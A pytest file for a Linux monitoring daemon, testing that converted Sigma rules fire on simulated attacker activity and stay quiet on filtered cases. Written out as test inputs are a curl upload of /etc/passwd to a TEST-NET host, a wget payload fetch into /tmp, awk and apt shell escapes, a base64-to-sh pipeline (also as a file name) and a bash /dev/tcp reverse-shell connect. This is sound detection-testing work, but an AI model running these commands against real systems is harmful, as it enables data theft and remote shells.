# SPDX-License-Identifier: GPL-2.0-or-later
"""Sigma rules in the real daemon: the daemon loads the Sigma rules of
tests/sigma/rules/ (our own rules, each mirroring the detection logic of the
SigmaHQ rule named in its 'related' key) through the policy's 'sigma' key,
and for each rule the test does what the rule is about for real: an exec
with the flagged arguments (programs are copies of /bin/true, /bin/dash or
the sgact driver under the name the rule looks for, or the real harmless
command), a file write to a temporary path the rule matches, a connect to an
address inside a network namespace the test creates.  The alert must come
from the converted rule, with the Sigma level as severity; what a rule's
exception or filter covers must stay quiet."""

import os
import re
import shutil
import subprocess
import tempfile
import uuid

import pytest

from conftest import (REPO, SGACT, SYSGUARDCTL, SYSGUARDD, Daemon, check_exit, matched_rules,
                      need_root_bpf, sgact)

RULES = os.path.join(REPO, "tests", "sigma", "rules")
SEVERITY = {"informational": "info", "low": "low", "medium": "medium", "high": "high",
            "critical": "critical"}


def rule_meta(name):
    """(rule id in the policy, severity) of one of our Sigma files."""
    with open(os.path.join(RULES, name)) as f:
        text = f.read()
    rid = re.search(r"^id: (\S+)$", text, re.M).group(1)
    level = re.search(r"^level: (\S+)$", text, re.M).group(1)
    return "sigma:" + rid, SEVERITY[level]


@pytest.fixture(scope="module")
def sg():
    """One daemon for the module (each test waits for events of its own
    processes), whose only rules come from tests/sigma/rules/."""
    need_root_bpf()
    if not os.path.exists(SGACT):
        pytest.skip("sgact is not built (make systest builds it)")
    d = os.path.realpath(tempfile.mkdtemp(prefix="sgtest-"))
    policy = os.path.join(d, "sigma-policy.yaml")
    with open(policy, "w") as f:
        # the marker rule lets conftest's marker() see its own exec
        f.write("version: 1\ndefaults: {action: allow}\n"
                "rules:\n  - {id: marker, events: [exec], match: {proc.name: echo}, action: log}\n"
                "sigma:\n  paths: [%s]\n"
                "  actions: {informational: log, low: alert, medium: alert, high: alert,"
                " critical: alert}\n" % RULES)
    p = subprocess.run([SYSGUARDD, "--check-policy", policy], capture_output=True, text=True)
    assert p.returncode == 0 and p.stderr == "", p.stderr
    dm = Daemon(d, policy=policy)
    try:
        yield dm.start()
        check_exit(dm, dm.stop(), allowed=(0, None))
    finally:
        dm.stop()
        dm.cleanup()
        shutil.rmtree(d, ignore_errors=True)


def fake(tmp, name, source="/bin/true"):
    """A copy of source named name: exec'ing it is an exec of 'name'."""
    d = os.path.join(tmp, "bin")
    os.makedirs(d, exist_ok=True)
    path = os.path.join(d, name)
    shutil.copy(source, path)
    os.chmod(path, 0o755)
    return path


def run(argv, **kw):
    p = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait()
    return p.pid


def is_rule(e, rid):
    """The event's rule is rid, or one of the rules rid was split into (rid#N)."""
    r = e.get("rule") or ""
    return r == rid or r.startswith(rid + "#")


def hit(daemon, name, pred, type_=None):
    """Wait for the rule of Sigma file name to act on an event satisfying pred;
    the action is the policy's for the rule's level (informational: log)."""
    rid, sev = rule_meta(name)
    ev = daemon.wait_for(lambda e: is_rule(e, rid) and pred(e)
                         and (type_ is None or e["type"] == type_),
                         what="rule %s (%s)" % (rid, name), needle=rid)
    assert ev["action"] == ("log" if sev == "info" else "alert"), ev
    assert ev["severity"] == sev, ev
    return ev


def by_pid(pid):
    return lambda e: e["proc"]["pid"] == pid


def matched(e, rid):
    """rid decided the event or is among the other rules that matched it."""
    return any(r == rid or r.startswith(rid + "#") for r, _ in matched_rules(e))


def quiet(daemon, name, pid):
    """After a marker: rule of name did not act on pid (neither decided nor
    matched)."""
    daemon.marker()
    rid, _ = rule_meta(name)
    assert not [e for e in daemon.by_pid(pid) if matched(e, rid)]


# ------------------------------------------------------------ process_creation

EXEC_CASES = [
    # (Sigma file, program name or absolute path, arguments)
    ("pc_apt_shell.yml", "apt-get", ["-o", "APT::Update::Pre-Invoke::=/bin/sh", "update"]),
    ("pc_kaspersky_stop.yml", "systemctl", ["stop", "kesl"]),
    ("pc_awk_shell.yml", "awk", ['BEGIN {system("/bin/sh")}']),
    ("pc_base64_decode.yml", "/usr/bin/base64", ["-d", "/dev/null"]),
    ("pc_auditctl_delete.yml", "auditctl", ["-D"]),
    ("pc_curl_upload.yml", "curl", ["-F", "f=@/etc/hostname", "http://198.51.100.7/up"]),
    ("pc_wget_suspicious_dir.yml", "wget", ["-O", "/tmp/x.bin", "http://198.51.100.7/x"]),
    ("pc_inode_listing.yml", "/bin/ls", ["-id", "/"]),
    ("pc_file_dir_discovery.yml", "/bin/ls", ["-R", "/nonexistent-sgtest"]),
    ("pc_capa_discovery.yml", "getcap", ["-r", "/usr/bin"]),
    ("pc_crontab_list.yml", "crontab", ["-l"]),
    ("pc_env_shell.yml", "/usr/bin/env", ["-i", "/bin/true", "/bin/sh"]),
    ("pc_base64_pipe_shell.yml", "true", ["echo aGkK | base64 -d | sh"]),
    # Sigma ignores case: the rule lists 'log4shell' and 'exploit'
    ("pc_git_clone_exploit.yml", "git", ["clone", "https://198.51.100.7/Log4Shell-EXPLOIT"]),
]


@pytest.mark.parametrize("name,prog,args", EXEC_CASES, ids=[c[0] for c in EXEC_CASES])
def test_exec_rules(sg, tmp, name, prog, args):
    exe = prog if prog.startswith("/") else fake(tmp, prog)
    pid = run([exe] + args)
    ev = hit(sg, name, by_pid(pid), type_="exec")
    assert ev["result"] == 0


def test_dd_overwrite(sg, tmp):
    out = os.path.join(tmp, "disk.img")
    pid = run(["/usr/bin/dd", "if=/dev/zero", "of=" + out, "bs=512", "count=1"])
    hit(sg, "pc_dd_overwrite.yml", by_pid(pid), type_="exec")


def test_case_and_cased(sg, tmp):
    """The rule's keywords match whatever the case; its 'cased' filter only
    as written."""
    git = fake(tmp, "git")
    filtered = run([git, "clone", "https://198.51.100.7/sgtest-ignore-POC-1"])
    other_case = run([git, "clone", "https://198.51.100.7/sgtest-ignore-poc-1"])
    hit(sg, "pc_git_clone_exploit.yml", by_pid(other_case), type_="exec")
    quiet(sg, "pc_git_clone_exploit.yml", filtered)


def test_net_tools_with_listen_filter(sg, tmp):
    nc = fake(tmp, "nc")
    nmap = fake(tmp, "nmap")
    listening = run([nc, "-l", "-p", "4444"])        # the rule's filter: quiet
    probing = run([nc, "-z", "198.51.100.7", "22"])  # netcat not listening: alert
    scanning = run([nmap, "-sT", "198.51.100.7"])    # a scanner: alert, even with -l
    hit(sg, "pc_net_tools.yml", by_pid(probing), type_="exec")
    hit(sg, "pc_net_tools.yml", by_pid(scanning), type_="exec")
    quiet(sg, "pc_net_tools.yml", listening)


def test_specific_rule_decides_over_broad_one(sg, tmp):
    """Curl Usage (low) comes first in the policy, Suspicious Curl File Upload
    (medium) after it: the upload rule decides and Curl Usage is named among
    the matches."""
    curl = fake(tmp, "curl")
    pid = run([curl, "--upload-file", "/etc/passwd", "http://198.51.100.7/up"])
    ev = hit(sg, "pc_curl_upload.yml", by_pid(pid), type_="exec")
    any_id, _ = rule_meta("pc_curl_any.yml")
    assert {"rule": any_id, "action": "alert", "severity": "low"} in ev.get("matches", []), ev
    # a plain curl: only the broad rule, which decides
    pid = run([curl, "-s", "http://198.51.100.7/"])
    ev = hit(sg, "pc_curl_any.yml", by_pid(pid), type_="exec")
    assert "matches" not in ev, ev


def test_curl_upload_to_loopback_is_filtered(sg, tmp):
    curl = fake(tmp, "curl")
    pid = run([curl, "-F", "f=@/etc/hostname", "http://127.0.0.1/up"])
    quiet(sg, "pc_curl_upload.yml", pid)


def test_git_parent_command_line(sg, tmp):
    """ParentImage and ParentCommandLine: the parent is a shell named git,
    run with ' -p ' and 'help' among its arguments."""
    git = fake(tmp, "git", "/bin/dash")
    true = fake(tmp, "true")
    marker = "sgtest-" + uuid.uuid4().hex
    # two commands, so that the shell forks rather than exec'ing the last one
    run([git, "-c", "%s %s 'sh 0<&1'; :" % (true, marker), "git", "-p", "help"])
    ev = hit(sg, "pc_git_shell.yml", lambda e: marker in e["exec"]["argv"], type_="exec")
    assert ev["proc"]["exe"] == true
    # the same child under a parent without those arguments: quiet
    marker2 = "sgtest-" + uuid.uuid4().hex
    run([git, "-c", "%s %s 'sh 0<&1'; :" % (true, marker2)])
    sg.marker()
    rid, _ = rule_meta("pc_git_shell.yml")
    assert not [e for e in sg.events if is_rule(e, rid)
                and marker2 in e.get("exec", {}).get("argv", [])]


# ------------------------------------------------------------------ file_event

def test_file_rules(sg, tmp):
    doas = os.path.join(tmp, "etc", "doas.conf")
    crontab = os.path.join(tmp, "etc", "crontab")
    os.makedirs(os.path.dirname(doas))
    named = os.path.join(tmp, "{echo,aGkK}|{base64,-d}|sh")
    backdoor = os.path.join(tmp, "ebpfbackdoor")
    pid, res = sgact("pid", "open", doas, "wc", "open", crontab, "wc", "open", named, "wc",
                     "open", backdoor, "wc")
    assert all(r >= 0 for r in res["open"]), res
    hit(sg, "fe_doas_conf.yml", lambda e: e["file"]["path"] == doas and by_pid(pid)(e))
    hit(sg, "fe_cron_file.yml", lambda e: e["file"]["path"] == crontab and by_pid(pid)(e))
    hit(sg, "fe_base64_filename.yml", lambda e: e["file"]["path"] == named)
    hit(sg, "fe_triple_cross_persist.yml", lambda e: e["file"]["path"] == backdoor)
    # a read of the same file is no file_event
    pid, _ = sgact("pid", "open", doas, "r")
    quiet(sg, "fe_doas_conf.yml", pid)


def test_triple_cross_lock_file(sg):
    path = "/tmp/rootlog"
    if os.path.exists(path):
        pytest.skip("%s exists on this machine; not touching it" % path)
    try:
        pid, res = sgact("pid", "open", path, "wc")
    finally:
        if os.path.exists(path):
            os.unlink(path)
    hit(sg, "fe_triple_cross_lock.yml", by_pid(pid), type_="open")


def test_wget_writes_in_tmp(sg, tmp):
    wget = fake(tmp, "wget", SGACT)   # the driver, under wget's name
    target = os.path.join(tmp, "payload.bin")
    assert target.startswith("/tmp/")
    p = subprocess.run([wget, "pid", "open", target, "wc"], capture_output=True, text=True,
                       check=True)
    pid = int(p.stdout.split()[1])
    ev = hit(sg, "fe_wget_tmp.yml", by_pid(pid), type_="open")
    assert ev["file"]["path"] == target and ev["proc"]["exe"] == wget


# --------------------------------------------------------- network_connection

@pytest.fixture
def netns():
    """A network namespace with 198.51.100.1 (TEST-NET-2) on its loopback
    link: connects to it never leave the namespace."""
    if not shutil.which("ip"):
        pytest.skip("needs ip(8)")
    name = "sgsigma-" + uuid.uuid4().hex[:8]
    subprocess.run(["ip", "netns", "add", name], check=True)
    try:
        for cmd in (["link", "set", "lo", "up"], ["addr", "add", "198.51.100.1/32", "dev", "lo"]):
            subprocess.run(["ip", "-n", name] + cmd, check=True)
        yield name
    finally:
        subprocess.run(["ip", "netns", "del", name], check=True)


def test_network_rules(sg, netns):
    # a non-loopback connect to a callback port (refused: nothing listens)
    p = subprocess.run(["ip", "netns", "exec", netns, SGACT, "pid", "connect", "198.51.100.1",
                        "4444"], capture_output=True, text=True)
    pid = int(p.stdout.split()[1])
    ev = hit(sg, "nc_callback_port.yml", by_pid(pid), type_="connect")
    assert ev["net"]["port"] == 4444 and ev["net"]["addr"] == "198.51.100.1"
    # the same port on loopback is the rule's filter: quiet
    p = subprocess.run(["ip", "netns", "exec", netns, SGACT, "pid", "connect", "127.0.0.1",
                        "4444"], capture_output=True, text=True)
    quiet(sg, "nc_callback_port.yml", int(p.stdout.split()[1]))
    # bash connecting out: the reverse shell indicator
    pid = run(["ip", "netns", "exec", netns, "/bin/bash", "-c",
               "exec 3<>/dev/tcp/198.51.100.1/8080"])
    ev = hit(sg, "nc_reverse_shell.yml", lambda e: e["proc"]["ppid"] == pid or
             e["proc"]["pid"] == pid, type_="connect")
    assert ev["proc"]["exe"].endswith("/bin/bash")


def test_unix_connect_is_no_network_connection(daemon_factory, tmp):
    """bash asking nscd about a user connects to a unix socket: a connect
    event (logged by default here), but no network connection in Sigma's
    sense, so the reverse shell indicator stays quiet."""
    policy = os.path.join(tmp, "policy.yaml")
    with open(policy, "w") as f:
        f.write("version: 1\ndefaults: {action: log}\nrules: []\n"
                "sigma: {paths: [%s]}\n" % os.path.join(RULES, "nc_reverse_shell.yml"))
    d = daemon_factory(policy=policy)
    pid = run(["/bin/bash", "-c", "echo ~sgtest-no-such-user"])
    ev = d.wait_for(lambda e: e["type"] == "connect" and e["proc"]["pid"] == pid,
                    what="bash's connect to nscd's socket")
    assert ev["net"]["family"] == "unix", ev
    rid, _ = rule_meta("nc_reverse_shell.yml")
    d.marker()
    assert not [e for e in d.by_pid(pid) if is_rule(e, rid)], d.by_pid(pid)


# ------------------------------------------------------------ the conversion

def test_import_sigma_cli(tmp):
    """sysguardctl policy import-sigma needs no daemon; what it prints loads."""
    if not os.path.exists(SYSGUARDCTL):
        pytest.skip("sysguardctl is not built")
    p = subprocess.run([SYSGUARDCTL, "--socket", os.path.join(tmp, "none.sock"), "policy",
                        "import-sigma", RULES], capture_output=True, text=True)
    assert p.returncode == 0, p.stderr
    n = len(os.listdir(RULES))
    assert "%d Sigma rules in %d files: %d converted" % (n, n, n) in p.stderr
    out = os.path.join(tmp, "converted.yaml")
    with open(out, "w") as f:
        f.write(p.stdout)
    c = subprocess.run([SYSGUARDD, "--check-policy", out], capture_output=True, text=True)
    assert c.returncode == 0 and c.stderr == "", c.stderr
    # one refused rule among good ones: a warning with its reason, the rest loads
    bad = os.path.join(tmp, "sigma")
    shutil.copytree(RULES, bad)
    with open(os.path.join(bad, "zz_dns.yml"), "w") as f:
        f.write("title: DNS name\nlogsource: {product: linux, category: network_connection}\n"
                "detection:\n  sel:\n    DestinationHostname: example.org\n"
                "  condition: sel\nlevel: high\n")
    policy = os.path.join(tmp, "p.yaml")
    with open(policy, "w") as f:
        f.write("version: 1\nsigma: {paths: [sigma]}\n")
    c = subprocess.run([SYSGUARDD, "-v", "--check-policy", policy], capture_output=True,
                       text=True)
    assert c.returncode == 0, c.stderr
    assert re.search(r"zz_dns.yml:5:5: warning: Sigma rule 'DNS name' refused: field "
                     r"'DestinationHostname'", c.stderr), c.stderr
    assert c.stdout.count("  - id: ") == n + 1  # one Sigma rule gives two policy rules
